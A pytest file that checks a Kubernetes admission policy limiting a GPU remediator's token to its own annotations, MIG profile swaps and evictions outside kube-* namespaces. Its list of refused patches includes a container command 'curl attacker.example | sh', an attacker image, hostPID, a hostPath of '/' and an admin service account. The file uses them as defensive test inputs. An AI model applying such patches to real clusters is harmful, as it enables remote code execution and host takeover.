"""What the remediator's token may write, held by the real API server (deploy/components/
no-dry-run's ValidatingAdmissionPolicy), not only by its planner. Seen: with `patch
deployments` cluster-wide its token set a kube-system Deployment's image, hostPID and a
hostPath volume of `/`. Now it writes numaguard's own annotations and labels, swaps one
MIG profile for another in a pod template (a nvidia.com/mig-* resource or a claim's
template, and makes and deletes such templates), evicts and deletes pods — nowhere in a kube-*
namespace — and nothing else."""

from __future__ import annotations

import contextlib

import aiohttp
import pytest

from numaguard.simulator.parts.controlplane import ApiError, path_of
from numaguard.simulator.parts.processes import until

pytestmark = pytest.mark.cluster

NS = "writes"
MIG = "nvidia.com/mig-1g.10gb"


NAMESPACE = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}}


async def create(cp, session, *objects: dict) -> None:
    for obj in objects:
        with contextlib.suppress(ApiError):  # made by an earlier run
            await cp.create(session, obj)


def deployment(namespace: str) -> dict:
    labels = {"app": "trainer"}
    container = {
        "name": "trainer",
        "image": "registry.example/trainer:1",
        "resources": {"limits": {MIG: "1", "cpu": "2"}},
    }
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "trainer", "namespace": namespace},
        "spec": {
            "replicas": 0,  # nothing runs: only the object is written
            "selector": {"matchLabels": labels},
            "template": {"metadata": {"labels": labels}, "spec": {"containers": [container]}},
        },
    }


def containers(**change) -> dict:
    """A merge patch of the trainer container (a merge patch replaces the list)."""
    container = {"name": "trainer", "image": "registry.example/trainer:1"}
    container["resources"] = {"limits": {MIG: "1", "cpu": "2"}}
    container.update(change)
    return {"spec": {"template": {"spec": {"containers": [container]}}}}


# what the remediator writes, and what a stolen token tried
ALLOWED = {
    "its history": {"metadata": {"annotations": {"numaguard.io/history": "{}"}}},
    "a MIG resize": containers(resources={"limits": {"nvidia.com/mig-2g.20gb": "1", "cpu": "2"}}),
}
REFUSED = {
    "an image": containers(image="attacker.example/shell:1"),
    "a command": containers(command=["/bin/sh", "-c", "curl attacker.example | sh"]),
    "more CPU with the resize": containers(
        resources={"limits": {"nvidia.com/mig-2g.20gb": "1", "cpu": "64"}}
    ),
    "hostPID": {"spec": {"template": {"spec": {"hostPID": True}}}},
    "a hostPath of /": {
        "spec": {
            "template": {
                "spec": {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]},
            }
        }
    },
    "another account": {"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}},
    "the replicas": {"spec": {"replicas": 3}},
    "another's annotation": {"metadata": {"annotations": {"team.example/owner": "me"}}},
    "a label": {"metadata": {"labels": {"tier": "free"}}},
}


async def test_the_remediator_writes_only_numaguard_s_fields_and_nothing_in_kube_system(
    control_plane,
):
    cp = control_plane
    token = cp.tokens["numaguard-remediator"]
    async with aiohttp.ClientSession() as session:
        await create(cp, session, NAMESPACE)
        made = []
        for namespace in (NS, "kube-system"):
            with contextlib.suppress(ApiError):  # made by an earlier run
                await cp.create(session, deployment(namespace))
            made.append(path_of("Deployment", namespace, "trainer"))
        try:

            async def patch(namespace: str, body: dict) -> tuple[int, dict]:
                path = path_of("Deployment", namespace, "trainer") + "?dryRun=All"
                return await cp.request(session, "PATCH", path, body, token)

            async def in_force() -> bool:  # the API server loads a policy within seconds
                return (await patch("kube-system", ALLOWED["its history"]))[0] == 403

            await until(in_force, "the policy in force", 60)
            for what, body in ALLOWED.items():
                status, answer = await patch(NS, body)
                assert status == 200, (what, answer.get("message"))
                status, answer = await patch("kube-system", body)
                assert status == 403 and "kube-*" in answer["message"], (what, answer)
            for what, body in REFUSED.items():
                status, answer = await patch(NS, body)
                assert status == 403, (what, status, answer)
                assert "numaguard's remediator" in answer["message"], (what, answer)
            # a pod: numaguard's annotations only, never its spec; no eviction in kube-*
            pod = {
                "apiVersion": "v1",
                "kind": "Pod",
                "metadata": {"name": "job", "namespace": NS},
                "spec": {
                    "schedulerName": "nobody",
                    "containers": [{"name": "c", "image": "registry.example/job:1"}],
                },
            }
            with contextlib.suppress(ApiError):
                await cp.create(session, pod)
            at = path_of("Pod", NS, "job") + "?dryRun=All"
            image = [
                {"op": "replace", "path": "/spec/containers/0/image", "value": "attacker.example/x"}
            ]
            status, answer = await cp.request(session, "PATCH", at, image, token)
            assert status == 403 and "no pod's spec" in answer["message"], answer.get("message")
            ours = {"metadata": {"annotations": {"numaguard.io/move-memory": "1800000000"}}}
            assert (await cp.request(session, "PATCH", at, ours, token))[0] == 200
            eviction = {
                "apiVersion": "policy/v1",
                "kind": "Eviction",
                "metadata": {"name": "kube-apiserver-node", "namespace": "kube-system"},
                "deleteOptions": {"dryRun": ["All"]},
            }
            evict = path_of("Pod", "kube-system", "kube-apiserver-node") + "/eviction"
            status, answer = await cp.request(session, "POST", evict, eviction, token)
            assert status == 403 and "kube-*" in answer["message"], answer
        finally:
            for path in made:
                await cp.request(session, "DELETE", path)
            await cp.request(session, "DELETE", path_of("Pod", NS, "job") + "?gracePeriodSeconds=0")


def claim_deployment() -> dict:
    """trainer, its slice from a ResourceClaimTemplate."""
    obj = deployment(NS)
    obj["metadata"]["name"] = "claimer"
    spec = obj["spec"]["template"]["spec"]
    spec["containers"][0]["resources"] = {"claims": [{"name": "gpu"}]}
    spec["resourceClaims"] = [{"name": "gpu", "resourceClaimTemplateName": "claimer-3g"}]
    return obj


def template(name: str, labelled: bool = True, owned: bool = True) -> dict:
    request = {"deviceClassName": "mig.nvidia.com"}
    meta: dict = {"name": name, "namespace": NS}
    if labelled:
        meta["labels"] = {"numaguard.io/resized": "true"}
    if owned:
        meta["ownerReferences"] = [
            {"apiVersion": "apps/v1", "kind": "Deployment", "name": "claimer", "uid": "0" * 8}
        ]
    return {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceClaimTemplate",
        "metadata": meta,
        "spec": {"spec": {"devices": {"requests": [{"name": "mig", "exactly": request}]}}},
    }


def claims(*entries: dict) -> dict:
    return {"spec": {"template": {"spec": {"resourceClaims": list(entries)}}}}


async def test_a_resize_through_a_claim_template_writes_only_that(control_plane):
    """It may make a template labelled and owned as a resize's, point a workload's claim
    at another template, and delete a template; not point it at a shared claim, add a
    claim, make an unlabelled template, or change any claim."""
    cp = control_plane
    token = cp.tokens["numaguard-remediator"]
    async with aiohttp.ClientSession() as session:
        team = template("claimer-3g", owned=False)  # the team's own
        await create(cp, session, NAMESPACE, claim_deployment(), team)
        templates = "/apis/resource.k8s.io/v1/namespaces/{}/resourceclaimtemplates"
        try:
            at = path_of("Deployment", NS, "claimer") + "?dryRun=All"

            async def patch(body: dict) -> tuple[int, dict]:
                return await cp.request(session, "PATCH", at, body, token)

            async def in_force() -> bool:
                made = template("bare", labelled=False)
                path = templates.format(NS) + "?dryRun=All"
                return (await cp.request(session, "POST", path, made, token))[0] == 403

            await until(in_force, "the policy in force", 60)
            swapped = {"name": "gpu", "resourceClaimTemplateName": "claimer-mig-1g-10gb"}
            status, answer = await patch(claims(swapped))
            assert status == 200, answer.get("message")
            for what, body in {
                "a shared claim": claims({"name": "gpu", "resourceClaimName": "team-gpu"}),
                "another claim": claims(swapped, {"name": "more", "resourceClaimName": "x"}),
            }.items():
                status, answer = await patch(body)
                assert status == 403 and "numaguard's remediator" in answer["message"], what
            path = templates.format(NS) + "?dryRun=All"
            status, answer = await cp.request(session, "POST", path, template("t1"), token)
            assert status == 201, answer.get("message")
            for made in (template("t2", labelled=False), template("t3", owned=False)):
                status, answer = await cp.request(session, "POST", path, made, token)
                assert status == 403 and "labelled" in answer["message"], answer
            one = templates.format(NS) + "/claimer-3g?dryRun=All"
            assert (await cp.request(session, "DELETE", one, None, token))[0] == 200
            kube = templates.format("kube-system") + "?dryRun=All"
            there = template("t4")
            there["metadata"]["namespace"] = "kube-system"
            status, answer = await cp.request(session, "POST", kube, there, token)
            assert status == 403 and "kube-*" in answer["message"], answer
            # no update of a template: RBAC grants none, and the spec is immutable anyway
            status, _ = await cp.request(session, "PUT", one, template("claimer-3g"), token)
            assert status == 403
        finally:
            await cp.request(session, "DELETE", path_of("Deployment", NS, "claimer"))
            await cp.request(session, "DELETE", templates.format(NS) + "/claimer-3g")
